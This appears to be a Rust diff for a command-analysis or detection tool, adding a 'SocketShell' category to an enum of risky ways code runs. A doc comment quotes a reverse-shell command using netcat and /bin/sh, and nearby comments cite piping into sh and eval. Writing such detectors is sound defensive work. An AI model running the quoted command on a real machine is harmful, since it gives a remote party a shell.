@@ -255,6 +255,9 @@ pub enum Run {
     Code(LayerId),
     /// Code fetched from the network.
     Network { how: String, span: Span },
+    /// A shell or interpreter whose input and output are a network connection (`nc -e
+    /// /bin/sh host 4444`): whoever is at the other end types its commands.
+    SocketShell { how: String, span: Span },
     /// Code that cannot be seen before it runs (`eval "$X"`, `some_cmd | sh`).
     Unverifiable { what: String, span: Span },
 }
